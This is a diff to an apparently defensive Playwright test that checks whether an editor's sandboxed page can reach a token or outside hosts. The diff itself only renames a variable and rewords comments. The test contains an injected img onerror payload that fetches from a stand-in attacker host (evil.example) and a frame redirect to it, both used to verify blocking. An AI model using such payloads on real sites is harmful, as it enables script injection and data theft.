@@ -7,10 +7,10 @@ test.describe("attacks", () => {
 	test.use({ tolerated: /./ });
 
 	test("code in the page under edit can reach neither the token nor any host", async ({ page, site }) => {
-		const asked: string[] = [];
+		const reachedHosts: string[] = [];
 		// Only what the policy allows comes here.
 		await page.route("https://evil.example/**", (route) => {
-			asked.push(route.request().url());
+			reachedHosts.push(route.request().url());
 			return route.fulfill({ body: "" });
 		});
 		const markup = `<img src="https://evil.example/?text" onerror="fetch('https://evil.example/?code')">`;
@@ -66,18 +66,18 @@ test.describe("attacks", () => {
 				try {
 					done.push(`${name}: ${await attempt()}`);
 				} catch {
-					// As it should be.
+					// Expected: the attempt is blocked.
 				}
 			}
 			return done;
 		}, `${site.url}edit/`);
 		expect(reached).toEqual(["origin: null"]);
-		// Even from another page, the frame would get what is edited.
+		// If the frame could load another page, that page would get what is edited.
 		await frame.evaluate(() => {
 			location.href = "https://evil.example/?frame";
 		});
 		await expect.poll(() => page.frames().map((one) => one.url())).toContain("chrome-error://chromewebdata/");
-		expect([...asked, ...site.facade.requests]).toEqual([]);
+		expect([...reachedHosts, ...site.facade.requests]).toEqual([]);
 		expect(page.url()).toBe(`${site.url}edit/`);
 	});
 
